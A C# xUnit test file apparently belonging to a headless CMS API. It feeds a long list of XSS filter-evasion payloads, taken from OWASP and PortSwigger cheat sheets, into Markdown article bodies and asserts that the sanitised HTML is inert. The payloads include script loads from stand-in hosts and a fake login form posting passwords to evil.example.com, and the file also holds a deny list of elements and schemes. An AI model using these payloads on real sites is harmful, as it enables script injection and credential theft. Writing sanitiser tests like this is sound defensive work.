using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Headless.Api.Tests.Infrastructure;

namespace Headless.Api.Tests.Articles;

/// <summary>
/// Payloads from public cheat sheets (OWASP XSS Filter Evasion, PortSwigger's XSS cheat sheet, markdown-specific
/// ones) posted as Markdown bodies; the stored <c>body.html</c> is parsed and checked for anything that runs script,
/// loads active content or sends the reader elsewhere.
/// </summary>
public sealed class XssPayloadTests(ApiFactory factory) : IClassFixture<ApiFactory>
{
    public static readonly TheoryData<string> Payloads = new(
    [
        // Script elements
        "<script>alert('XSS')</script>",
        "<SCRIPT SRC=https://xss.example.com/xss.js></SCRIPT>",
        "<SCRIPT/XSS SRC=\"https://xss.example.com/xss.js\"></SCRIPT>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<SCRIPT SRC=//xss.example.com/.j>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
        "<script>/* */alert(1)<!--",
        // Images and event handlers
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=javascript:alert('XSS')>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<IMG DYNSRC=\"javascript:alert('XSS')\"><IMG LOWSRC=\"javascript:alert('XSS')\">",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<BODY ONLOAD=alert('XSS')>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert('XSS')>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<audio src=x onerror=alert(1)>",
        "<input type=\"image\" src=\"javascript:alert('XSS');\">",
        "<input autofocus onfocus=alert(1)>",
        "<p onmouseover=\"alert(1)\">hover</p>",
        "<a href=\"https://example.com\" onclick=\"alert(1)\">ok link, bad handler</a>",
        "<table background=\"javascript:alert('XSS')\"><tr><td>x</td></tr></table>",
        "<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>",
        "<div style=\"width: expression(alert('XSS'));\">x</div>",
        "<STYLE>@import'javascript:alert(\"XSS\")';</STYLE>",
        "<STYLE>BODY{-moz-binding:url(\"https://xss.example.com/xss.xml#xss\")}</STYLE>",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        // Links with obfuscated schemes
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"  JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox('XSS')\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        // Frames, objects, embeds, meta, base, forms
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example.com/scriptlet.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" type=\"image/svg+xml\"></EMBED>",
        "<applet code=\"xss.class\"></applet>",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<form action=\"https://evil.example.com/steal\"><input name=\"password\" type=\"password\"><button>Log in</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<isindex action=\"javascript:alert(1)\" type=image>",
        "<xml id=\"xss\"><i><b><img src=\"javas<!-- -->cript:alert('XSS')\"></b></i></xml>",
        "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        // Markdown-specific
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](javascript&#58;alert(1))",
        "[x](  javascript:alert(1)  )",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](javascript:alert(1))",
        "![x\" onerror=\"alert(1)](https://example.com/x.png)",
        "[x](https://example.com/\"onmouseover=\"alert(1))",
        "<javascript:alert(1)>",
        "[x][ref]\n\n[ref]: javascript:alert(1)",
        "[a](<javascript:alert(1)>)",
        "<div>\n\n[x](javascript:alert(1))\n\n</div>",
        "<div onclick=\"alert(1)\">\n\n*markdown inside an HTML block*\n\n</div>",
        "```html\n</code></pre><script>alert(1)</script>\n```",
        "`<script>alert(1)</script>` and <span title=\"`\"><img src=x onerror=alert(1)>`\"></span>",
        "> <iframe src=\"https://evil.example.com\"></iframe>\n> quoted",
        "- [ ] <input onfocus=alert(1) autofocus>",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    ]);

    private static readonly HashSet<string> ForbiddenElements = new(StringComparer.OrdinalIgnoreCase)
    {
        "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "meta", "base", "link", "style",
        "isindex", "template", "noscript", "xml", "button", "textarea", "select",
    };

    private static readonly HashSet<string> SafeSchemes = new(StringComparer.OrdinalIgnoreCase) { "http", "https", "mailto" };

    [Theory]
    [MemberData(nameof(Payloads))]
    public async Task Hostile_markdown_leaves_no_active_content_in_the_html(string payload)
    {
        var article = await factory.Admin().CreateArticle(body: "Before.\n\n" + payload + "\n\nAfter.");

        var html = article["body"]!["html"]!.GetValue<string>();
        AssertInert(html);
        // The read path answers what was stored.
        var read = await (await factory.Admin().GetAsync($"/v1/articles/{article["id"]}")).AssertOk();
        Assert.Equal(html, read["body"]!["html"]!.GetValue<string>());
    }

    [Fact]
    public void There_are_at_least_forty_payloads() => Assert.True(Payloads.Count >= 40);

    [Theory]
    [InlineData("<a href=\"java&#x09;script:alert(1)\">x</a>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<div style=\"width: expression(alert(1))\">x</div>")]
    [InlineData("<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>")]
    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example.com\">")]
    [InlineData("<a href=\"&#x6A;avascript:alert(1)\">x</a>")]
    public void The_check_itself_catches_unsanitised_markup(string html) =>
        Assert.ThrowsAny<Xunit.Sdk.XunitException>(() => AssertInert(html));

    private static void AssertInert(string html)
    {
        var document = new HtmlParser().ParseDocument($"<!DOCTYPE html><html><body>{html}</body></html>");
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.False(ForbiddenElements.Contains(element.LocalName), $"<{element.LocalName}> in: {html}");
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.LocalName.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{attribute.Name} on <{element.LocalName}> in: {html}");
                Assert.False(attribute.LocalName is "srcdoc" or "formaction" or "action" or "background" or "dynsrc" or "lowsrc" or "data" or "http-equiv",
                    $"{attribute.Name} on <{element.LocalName}> in: {html}");
                AssertSafeValue(element, attribute, html);
            }
        }
    }

    private static void AssertSafeValue(IElement element, IAttr attribute, string html)
    {
        // The parser has decoded entities; browsers also drop control characters and white space inside a scheme.
        var squeezed = new string(attribute.Value.Where(c => !char.IsWhiteSpace(c) && !char.IsControl(c)).ToArray()).ToLowerInvariant();
        Assert.False(squeezed.Contains("javascript:", StringComparison.Ordinal) || squeezed.Contains("vbscript:", StringComparison.Ordinal)
            || squeezed.Contains("data:text/html", StringComparison.Ordinal) || squeezed.Contains("expression(", StringComparison.Ordinal)
            || squeezed.Contains("-moz-binding", StringComparison.Ordinal),
            $"{attribute.Name}=\"{attribute.Value}\" on <{element.LocalName}> in: {html}");
        if (attribute.LocalName is "href" or "src" or "cite" or "poster" or "srcset" or "xlink:href" || attribute.Name == "xlink:href")
        {
            var colon = squeezed.IndexOf(':');
            var slash = squeezed.IndexOfAny(['/', '?', '#']);
            if (colon > 0 && (slash < 0 || colon < slash))
            {
                Assert.True(SafeSchemes.Contains(squeezed[..colon]), $"{attribute.Name}=\"{attribute.Value}\" on <{element.LocalName}> in: {html}");
            }
        }
    }
}
